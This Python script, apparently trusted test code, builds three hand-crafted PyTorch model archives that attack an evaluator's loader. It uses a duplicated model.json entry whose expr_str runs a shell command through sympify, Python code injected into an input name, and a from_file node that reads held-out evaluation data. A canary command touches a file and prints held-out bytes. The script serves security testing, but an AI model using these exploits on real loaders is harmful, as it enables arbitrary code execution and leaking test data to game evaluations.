"""Builds model archives crafted by hand against the evaluator's loader (trusted test code).

Each is an honest exported program (build_models.py's untrained bigram) with its JSON
edited as an attacker would, where torch.export itself would not write it:
- expr_str_twice.pt2: models/model.json twice; Python's zipfile reads the second (clean)
  copy, torch's reader the first, whose input size is a SymInt whose expr_str runs a shell
  command when torch hands it to sympy.sympify;
- code_in_a_name.pt2: the input's name is Python code, which torch writes into the
  forward() it generates and runs (a default argument, evaluated when it is defined);
- reads_a_file.pt2: an extra node calling aten.from_file on the held-out text (a pure
  schema, so a rule on schemas lets it through).
Usage: python build_crafted_models.py OUT_FOLDER HONEST_ARCHIVE
"""

import io
import json
import os
import sys
import zipfile

import torch

OUT, HONEST = sys.argv[1], sys.argv[2]
CANARY_COMMAND = "touch pwned-canary; echo PWNED; head -c 200 heldout/val.bin"
CODE = f"__import__('os').system({CANARY_COMMAND!r})"

with zipfile.ZipFile(HONEST) as honest:
    entries = {name: honest.read(name) for name in honest.namelist()}
(MODEL_JSON,) = [name for name in entries if name.endswith("models/model.json")]
program = json.loads(entries[MODEL_JSON])
graph = program["graph_module"]["graph"]
(user_input,) = [s["user_input"]["arg"]["as_tensor"]["name"]
                 for s in program["graph_module"]["signature"]["input_specs"] if "user_input" in s]


def pack(replaced, twice=None):
    """The honest archive with `replaced` {name: document}; `twice`: (name, first document)
    written just before the entry of that name."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in entries.items():
            if twice is not None and name == twice[0]:
                archive.writestr(name, json.dumps(twice[1]))
            archive.writestr(name, json.dumps(replaced[name]) if name in replaced else data)
    return out.getvalue()


def copy(doc):
    return json.loads(json.dumps(doc))


def expr_str_twice():
    evil = copy(program)
    sizes = evil["graph_module"]["graph"]["tensor_values"][user_input]["sizes"]
    batch = sizes[0]["as_int"]
    sizes[0] = {"as_expr": {"expr_str": f"{CODE} * 0 + {batch}", "hint": {"as_int": batch}}}
    # torch's reader finds a name by binary search in the sorted directory: with the two
    # copies after the first two entries it lands on the first copy, Python's on the last
    others = [(name, data) for name, data in entries.items() if name != MODEL_JSON]
    layout = [*others[:2], (MODEL_JSON, json.dumps(evil)), (MODEL_JSON, entries[MODEL_JSON])]
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in layout + others[2:]:
            archive.writestr(name, data)
    data = out.getvalue()
    root = MODEL_JSON.split("/", 1)[0] + "/"
    torch_reads = torch._C.PyTorchFileReader(io.BytesIO(data)).get_record(MODEL_JSON[len(root):])
    assert b"expr_str" in torch_reads, "torch's reader no longer picks the first copy"
    assert b"expr_str" not in zipfile.ZipFile(io.BytesIO(data)).read(MODEL_JSON)
    return data


def code_in_a_name():
    evil = json.dumps(program).replace(f'"{user_input}"', json.dumps(f"{user_input}={CODE}"))
    return pack({MODEL_JSON: json.loads(evil)})


def reads_a_file():
    evil = copy(program)
    nodes = evil["graph_module"]["graph"]["nodes"]
    nodes.insert(0, {
        "target": "torch.ops.aten.from_file.default",
        "inputs": [
            {"name": "filename", "arg": {"as_string": "heldout/val.bin"}, "kind": 1},
            {"name": "shared", "arg": {"as_bool": False}, "kind": 1},
            {"name": "size", "arg": {"as_int": 64}, "kind": 1},
        ],
        "outputs": [{"as_tensor": {"name": "held"}}],
        "metadata": {},
        "is_hop_single_tensor_return": None,
        "name": "held",
    })
    values = evil["graph_module"]["graph"]["tensor_values"]
    values["held"] = {
        "dtype": 7, "sizes": [{"as_int": 64}], "requires_grad": False,
        "device": {"type": "cpu", "index": None}, "strides": [{"as_int": 1}],
        "storage_offset": {"as_int": 0}, "layout": 7,
    }  # fmt: skip
    return pack({MODEL_JSON: evil})


archives = {
    "expr_str_twice.pt2": expr_str_twice(),
    "code_in_a_name.pt2": code_in_a_name(),
    "reads_a_file.pt2": reads_a_file(),
}
os.makedirs(OUT, exist_ok=True)
for name, data in archives.items():
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)
    print(f"wrote {name}: {len(data)} bytes")
